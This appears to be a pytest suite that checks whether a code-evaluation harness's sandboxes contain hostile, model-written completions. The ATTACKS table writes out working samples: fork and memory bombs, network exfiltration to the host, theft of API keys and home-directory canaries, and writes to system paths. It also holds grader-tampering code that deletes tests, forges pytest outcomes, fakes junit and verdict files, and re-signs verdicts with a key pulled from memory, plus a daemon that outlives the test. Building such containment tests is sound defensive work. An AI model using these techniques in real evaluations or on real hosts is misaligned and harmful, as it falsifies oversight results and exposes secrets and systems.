"""The hostile-code suite: model-written code that attacks the harness, run through the real
``rcb evaluate`` path with ``replay:`` completions, on the local (bubblewrap) and Docker backends.

Every attack ends as a failure or is contained, the harness survives, the correct answer
replayed right after each attack still passes, and no record is lost.
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import threading
from pathlib import Path

import pytest
from conftest import FIXTURE_TASKS, fenced, write_replay

from rcb_action.results import ResultStore

CORRECT = "SCALE = 3"

# name -> (code run at import of the module under test, the failure class it must get or None)
ATTACKS: dict[str, tuple[str, str | None]] = {
    "endless loop": ("while True:\n    pass", "timeout"),
    "sleep past the timeout": ("import time\ntime.sleep(120)", "timeout"),
    "fork bomb": (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        None,
    ),
    "memory bomb": (
        "data = bytearray(6 * 10**9)\nfor i in range(0, len(data), 4096):\n    data[i] = 1",
        "memory",
    ),
    "1 GB on stdout": (
        "import os\nfor _ in range(1024):\n    os.write(1, b'x' * (1 << 20))\nSCALE = 3",
        None,
    ),
    "network": (
        "import socket\n"
        "for host in ('127.0.0.1', '{host_ip}', '1.1.1.1'):\n"
        "    try:\n"
        "        socket.create_connection((host, {port}), timeout=2).sendall(b'leak')\n"
        "    except OSError:\n"
        "        pass\n"
        "SCALE = 0",
        None,
    ),
    "read an API key and the host's home": (
        "import os, pathlib\n"
        "found = {{k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}}\n"
        "for p in ('{canary}', os.path.expanduser('~/{canary_name}')):\n"
        "    try:\n"
        "        found[p] = pathlib.Path(p).read_text()\n"
        "    except OSError:\n"
        "        pass\n"
        "raise AssertionError(repr(found))",
        None,
    ),
    "write outside the workspace": (
        "import os\n"
        "for p in ('{outside}/pwned', '/usr/lib/pwned', '/etc/pwned', '{home}/pwned'):\n"
        "    try:\n"
        "        open(p, 'w').write('x')\n"
        "    except OSError:\n"
        "        pass\n"
        "SCALE = 0",
        None,
    ),
    "delete or edit the tests": (
        "import glob, os, shutil\n"
        "for path in glob.glob('tests/*.py'):\n"
        "    try:\n"
        "        open(path, 'w').write('def test_setup():\\n    pass\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "    try:\n"
        "        os.remove(path)\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n"
        "    shutil.move('tests', 'tests-gone')\n"
        "except OSError:\n"
        "    pass\n"
        "SCALE = 0",
        None,
    ),
    "os._exit(0) at import": ("import os\nos._exit(0)", "sandbox_violation"),
    "sys.exit(0) at import": ("import sys\nsys.exit(0)", None),
    "patch pytest's reports": (
        "import _pytest.reports as r\n"
        "_init = r.TestReport.__init__\n"
        "def _forged(self, *a, **k):\n"
        "    _init(self, *a, **k)\n"
        "    self.outcome = 'passed'\n"
        "r.TestReport.__init__ = _forged\n"
        "SCALE = 0",
        "sandbox_violation",
    ),
    "register a plugin that rewrites outcomes": (
        "import gc, pytest\n"
        "class Forger:\n"
        "    @pytest.hookimpl(hookwrapper=True)\n"
        "    def pytest_runtest_makereport(self, item, call):\n"
        "        outcome = yield\n"
        "        outcome.get_result().outcome = 'passed'\n"
        "for obj in gc.get_objects():\n"
        "    if type(obj).__name__ == 'Config' and hasattr(obj, 'pluginmanager'):\n"
        "        obj.pluginmanager.register(Forger(), 'forger')\n"
        "        break\n"
        "SCALE = 0",
        "sandbox_violation",
    ),
    "write a fake junit and verdict": (
        "import atexit, glob, json\n"
        'JUNIT = \'<testsuites><testsuite><testcase classname="tests.test_guard" name="test_setup" '
        'file="tests/test_guard.py"/></testsuite></testsuites>\'\n'
        "def forge():\n"
        "    for path in glob.glob('junit-*.xml') + ['junit.xml']:\n"
        "        open(path, 'w').write(JUNIT)\n"
        "    for path in glob.glob('verdict-*.json') + ['verdict.json']:\n"
        "        body = json.dumps({{'results': {{'tests/test_guard.py::test_setup': 'passed'}}, "
        "'collect_errors': [], 'exitstatus': 0, 'tampered': []}})\n"
        "        open(path, 'w').write(json.dumps({{'body': body, 'mac': '0' * 64}}))\n"
        "forge()\n"
        "atexit.register(forge)\n"
        "SCALE = 0",
        None,
    ),
    "re-sign the verdict with the key from the plugin's memory": (
        "import atexit, hashlib, hmac, json, os, sys\n"
        "def forge():\n"
        "    plugin = sys.modules['rcb_verdict']\n"
        "    recorder = plugin._RECORDER\n"
        "    body = json.dumps({{'results': {{k: 'passed' for k in recorder._results}}, "
        "'collect_errors': [], 'exitstatus': 0, 'tampered': []}}, sort_keys=True)\n"
        "    mac = hmac.new(plugin._KEY, body.encode(), hashlib.sha256).hexdigest()\n"
        "    open(recorder._out, 'w').write(json.dumps({{'body': body, 'mac': mac}}))\n"
        "    for arg in sys.argv:\n"
        "        if arg.startswith('--junitxml='):\n"
        "            open(arg.split('=', 1)[1], 'w').write('<testsuites/>')\n"
        "    os._exit(0)\n"
        "atexit.register(forge)\n"
        "SCALE = 0",
        "sandbox_violation",
    ),
    "a FIFO where the verdict and the junit report go": (
        "import atexit, os, sys\n"
        "def swap():\n"
        "    paths = [sys.modules['rcb_verdict']._RECORDER._out]\n"
        "    paths += [a.split('=', 1)[1] for a in sys.argv if a.startswith('--junitxml=')]\n"
        "    for path in paths:\n"
        "        try:\n"
        "            os.unlink(path)\n"
        "        except OSError:\n"
        "            pass\n"
        "        os.mkfifo(path)\n"
        "atexit.register(swap)\n"
        "SCALE = 0",
        "sandbox_violation",
    ),
    "a symlink where the junit report goes": (
        "import atexit, os, sys\n"
        "def swap():\n"
        "    for arg in sys.argv:\n"
        "        if arg.startswith('--junitxml='):\n"
        "            path = arg.split('=', 1)[1]\n"
        "            os.unlink(path)\n"
        "            os.symlink('/etc/passwd', path)\n"
        "atexit.register(swap)\n"
        "SCALE = 0",
        "sandbox_violation",
    ),
    "a daemon that outlives the test": (
        "import os, signal, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(1)\n"
        "        for _ in range(300):\n"
        "            try:\n"
        "                os.kill(-1, signal.SIGKILL)\n"
        "            except OSError:\n"
        "                pass\n"
        "            time.sleep(0.1)\n"
        "    os._exit(0)\n"
        "SCALE = 0",
        None,
    ),
}


class _Listener:
    """A TCP server on the host that records any connection made to it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.server.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()


def _host_ip() -> str:
    try:
        return socket.gethostbyname(socket.gethostname())
    except OSError:
        return "127.0.0.1"


@pytest.fixture
def hostile_run(tmp_path, monkeypatch, cli):
    """Run every attack (even samples) interleaved with the correct answer (odd samples)."""

    def run(sandbox: str, task: str = "guard") -> dict[str, object]:
        listener = _Listener()
        outside = tmp_path / "outside"
        outside.mkdir()
        outside.chmod(0o777)
        canary_name = f".rcb-canary-{secrets.token_hex(4)}"
        canary = Path.home() / canary_name
        secret = f"canary-{secrets.token_hex(8)}"
        canary.write_text(secret)
        monkeypatch.setenv("OPENAI_API_KEY", f"sk-{secret}")
        monkeypatch.setenv("GITHUB_TOKEN", f"ghp-{secret}")
        values = {
            "port": listener.port,
            "host_ip": _host_ip(),
            "canary": str(canary),
            "canary_name": canary_name,
            "outside": str(outside),
            "home": str(Path.home()),
        }
        names = list(ATTACKS)
        rows = []
        for index, name in enumerate(names):
            code = ATTACKS[name][0].format(**values)
            rows.append(
                {
                    "task": task,
                    "snippet": "setup",
                    "sample": 2 * index,
                    "completion": fenced(code),
                }
            )
            rows.append(
                {
                    "task": task,
                    "snippet": "setup",
                    "sample": 2 * index + 1,
                    "completion": fenced(CORRECT),
                }
            )
        replay = write_replay(tmp_path / "hostile.jsonl", rows)
        out = tmp_path / f"out-{sandbox}"
        try:
            code, _stdout, _stderr = cli(
                "evaluate", "--model", f"replay:{replay}", "--tasks-dir", FIXTURE_TASKS, "--tasks", task,
                "--samples", str(2 * len(names)), "--workers", "1", "--sandbox", sandbox,
                "--memory-mb", "1024", "--out", out, "--no-progress",
            )  # fmt: skip
        finally:
            listener.close()
            canary.unlink(missing_ok=True)
        return {
            "task": task,
            "code": code,
            "names": names,
            "records": {(r.snippet, r.sample): r for r in ResultStore(out).records()},
            "out": out,
            "outside": outside,
            "secret": secret,
            "connections": listener.connections,
        }

    return run


def _check(result: dict) -> None:
    assert result["code"] == 0
    names = result["names"]
    records = result["records"]
    assert len(records) == 2 * len(names) * 2  # every sample of both snippets: no record lost
    for index, name in enumerate(names):
        attack = records[("setup", 2 * index)]
        # Output alone is no attack on a separate check sandbox: that answer is right.
        if result["task"] == "caseguard" and name == "1 GB on stdout":
            # A flood that outlasts the task's 15 s (Docker's pipe on a loaded 2-core
            # machine) is a timeout the answer earned; it never reaches the checks.
            timed_out = attack.status == "fail" and attack.failure_class == "timeout"
            assert attack.status == "pass" or timed_out, attack.message
            continue
        assert attack.status == "fail", f"{name}: {attack.status} {attack.message}"
        assert attack.failure_class != "harness_error", f"{name}: {attack.message}"
        expected = ATTACKS[name][1]
        # With cases and checks most attacks aim at a pytest that is not in their sandbox:
        # they fail as whatever their code did, and only the in-process classes are fixed.
        if expected and result["task"] == "guard":
            assert attack.failure_class == expected, (
                f"{name}: {attack.failure_class} {attack.message}"
            )
        after = records[("setup", 2 * index + 1)]
        assert after.status == "pass", f"the answer after '{name}' was affected: {after.message}"
    for sample in range(2 * len(names)):
        assert records[("triple", sample)].status == "fail"  # no completion given: no_code
    assert result["connections"] == 0, "sandboxed code reached the host's network"
    assert not any(result["outside"].iterdir()), "sandboxed code wrote outside its workspace"
    for path in ("/usr/lib/pwned", "/etc/pwned", str(Path.home() / "pwned")):
        assert not os.path.exists(path), path
    leaked = [
        str(p)
        for p in result["out"].rglob("*")
        if p.is_file() and result["secret"] in p.read_text(errors="replace")
    ]
    assert not leaked, f"a secret from the host reached the sandbox: {leaked}"


@pytest.mark.slow
def test_hostile_code_local(hostile_run):
    if shutil.which("bwrap") is None or os.geteuid() != 0:
        if os.environ.get("CI") == "true":
            pytest.fail("CI=true but bubblewrap (as root) is not available")
        pytest.skip("bubblewrap is not installed or not root: the local backend is unconfined here")
    _check(hostile_run("local"))


@pytest.mark.slow
@pytest.mark.docker
def test_hostile_code_docker(hostile_run, docker_base_image):
    _check(hostile_run("docker"))


@pytest.mark.slow
def test_hostile_code_cases_and_checks_local(hostile_run):
    """The same attacks against a task with cases and checks: each fails, none touches
    the next answer, the harness, the host or the checks."""
    if shutil.which("bwrap") is None or os.geteuid() != 0:
        if os.environ.get("CI") == "true":
            pytest.fail("CI=true but bubblewrap (as root) is not available")
        pytest.skip("bubblewrap is not installed or not root: the local backend is unconfined here")
    _check(hostile_run("local", "caseguard"))


@pytest.mark.slow
@pytest.mark.docker
def test_hostile_code_cases_and_checks_docker(hostile_run, docker_base_image):
    _check(hostile_run("docker", "caseguard"))
